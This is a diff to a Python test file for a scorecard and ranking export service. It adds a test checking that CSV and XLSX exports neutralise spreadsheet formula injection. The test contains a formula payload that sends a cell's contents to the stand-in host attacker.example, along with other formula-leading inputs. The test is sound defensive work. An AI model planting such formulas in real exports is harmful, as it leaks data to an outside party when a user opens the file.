@@ -66,5 +66,30 @@ def test_scorecards_xlsx_and_csv(api: TestClient, config: CriteriaConfig) -> Non
     lines = text.decode("utf-8-sig").splitlines()
     assert lines[0].startswith("Mã đơn vị,Tên đơn vị,Cấp")
     per_tier = {t: len(config.for_tier(t)) for t in Tier}
-    units = {Tier.PROVINCE_AGENCY: 4, Tier.DISTRICT: 2, Tier.COMMUNE: 1, Tier.ENTERPRISE: 2}
+    units = {Tier.PROVINCE_AGENCY: 4, Tier.DISTRICT: 3, Tier.COMMUNE: 1, Tier.ENTERPRISE: 2}
     assert len(lines) == 1 + sum(per_tier[t] * n for t, n in units.items())
+
+
+PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&B2,"Xem")'
+
+
+def test_exports_never_hold_a_formula() -> None:
+    """SPEC §7.3: a unit name sent as a formula is text in XLSX and quoted in CSV."""
+    import zipfile
+
+    from services.api.exports import RANKING_COLUMNS, to_csv, to_xlsx
+    from services.api.exports_safe import csv_cell
+
+    row = [1, "P9", PAYLOAD, "+cmd", -1.5, 3, 4, "@SUM(A1)"]
+    text = to_csv(RANKING_COLUMNS, [row]).decode("utf-8-sig")
+    cells = next(iter(list(csv.reader(io.StringIO(text)))[1:]))
+    assert cells[2] == "'" + PAYLOAD and cells[3] == "'+cmd" and cells[7] == "'@SUM(A1)"
+    assert cells[4] == "-1.5"  # numbers stay numbers
+    assert [csv_cell(v) for v in ("-x", "\tx", "\rx", "ok", 5)] == ["'-x", "'\tx", "'\rx", "ok", 5]
+
+    book = to_xlsx("t", RANKING_COLUMNS, [row])
+    with zipfile.ZipFile(io.BytesIO(book)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    values = list(load_workbook(io.BytesIO(book)).active.iter_rows(values_only=True))
+    assert values[1][2] == PAYLOAD and values[1][3] == "+cmd"
